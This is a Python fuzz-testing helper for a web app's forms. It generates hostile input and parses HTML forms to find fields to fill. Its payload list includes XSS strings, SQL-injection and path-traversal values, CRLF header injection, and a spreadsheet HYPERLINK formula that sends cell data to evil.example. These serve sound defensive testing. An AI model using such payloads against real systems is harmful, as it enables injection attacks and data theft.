"""Hypothesis strategies of hostile text, and a reader of a page's form, for the fuzz tests.

What an attacker or a bad paste sends: NUL and other control characters, huge strings,
look-alike and invisible characters, HTML and script, spreadsheet formulas, right-to-left
overrides, absurd numbers. Lone surrogates cannot reach a form: the test client cannot encode
them and Django decodes a request's bytes with replacement (``test_fuzz_forms`` checks it).
"""

from __future__ import annotations

from dataclasses import dataclass, field
from html.parser import HTMLParser

from hypothesis import strategies as st

# A script tag the templates must never send back unescaped.
SCRIPT = "<script>bc_xss()</script>"

PAYLOADS = [
    "\x00",
    "a\x00b",
    "\x00" * 3,
    "Jean\x01\x02\x1b[31m",
    "ligne\r\nX-Injecté: 1",
    "\x7f\x08\x0b\x0c",
    SCRIPT,
    '"><img src=x onerror=bc_xss()>',
    "</textarea>" + SCRIPT,
    "{{ 7*7 }}{% debug %}",
    '=HYPERLINK("http://evil.example/?d="&B2,"Voir")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "Dup\u043ent",  # Cyrillic о
    "Du\u200bpont",  # zero-width space
    "\u202eevil\u202c.pdf",  # right-to-left override
    "\ufeff\u2060\u00ad",
    "ﬁ\u0301\u0338",
    "9" * 30,
    "-5",
    "1e308",
    "NaN",
    "Infinity",
    "²",
    "٣",
    "0x1F",
    "' OR 1=1 --",
    "../../etc/passwd",
    "A" * 3000,
    "é" * 5000,
]

_controls = st.characters(min_codepoint=0, max_codepoint=0x1F) | st.just("\x7f")
_letters = st.characters(
    codec="utf-8", categories=("L", "N", "P", "S", "Zs", "Cf", "Mn"), exclude_characters="\x00"
)


@st.composite
def _mixed(draw: st.DrawFn) -> str:
    before = draw(st.text(_letters, max_size=12))
    hostile = draw(st.sampled_from(PAYLOADS) | st.text(_controls, min_size=1, max_size=4))
    after = draw(st.text(_letters | _controls, max_size=12))
    return before + hostile + after


def hostile_text() -> st.SearchStrategy[str]:
    """One hostile value: a known payload, or one between ordinary and control characters."""
    return st.sampled_from(PAYLOADS) | _mixed()


@dataclass
class PageForm:
    """A form of a page: its fields and what the page put in them."""

    action: str
    method: str
    data: dict[str, list[str]] = field(default_factory=dict)
    text_fields: list[str] = field(default_factory=list)


class _FormReader(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.forms: list[PageForm] = []
        self._current: PageForm | None = None
        self._textarea: str | None = None
        self._select: str | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        a = {k: v or "" for k, v in attrs}
        if tag == "form":
            self._current = PageForm(a.get("action", ""), a.get("method", "get").lower())
            self.forms.append(self._current)
            return
        form = self._current
        if form is None or "name" not in a:
            if tag == "option" and form is not None and self._select:
                self._option(form, a)
            return
        name = a["name"]
        if tag == "input":
            kind = a.get("type", "text")
            if kind in ("submit", "button", "file", "image", "reset"):
                if kind == "submit" and a.get("value"):
                    form.data.setdefault(name, [a["value"]])
                return
            if kind in ("checkbox", "radio"):
                if "checked" in a or name not in form.data:
                    form.data[name] = [a.get("value", "on")]
                return
            form.data.setdefault(name, []).append(a.get("value", ""))
            if kind in ("text", "email", "search", "tel", "number", "date", "password", "url"):
                form.text_fields.append(name)
        elif tag == "textarea":
            form.data[name] = [""]
            form.text_fields.append(name)
            self._textarea = name
        elif tag == "select":
            self._select = name
            form.text_fields.append(name)

    def _option(self, form: PageForm, attrs: dict[str, str]) -> None:
        assert self._select is not None
        if "selected" in attrs or self._select not in form.data:
            form.data[self._select] = [attrs.get("value", "")]

    def handle_data(self, data: str) -> None:
        if self._current is not None and self._textarea:
            self._current.data[self._textarea] = [self._current.data[self._textarea][0] + data]

    def handle_endtag(self, tag: str) -> None:
        if tag == "form":
            self._current = None
        elif tag == "textarea":
            self._textarea = None
        elif tag == "select":
            self._select = None


def page_forms(html: str) -> list[PageForm]:
    """The forms of a page, with the values the page filled in (the language switch left out)."""
    reader = _FormReader()
    reader.feed(html)
    return [f for f in reader.forms if "/i18n/" not in f.action and f.text_fields]
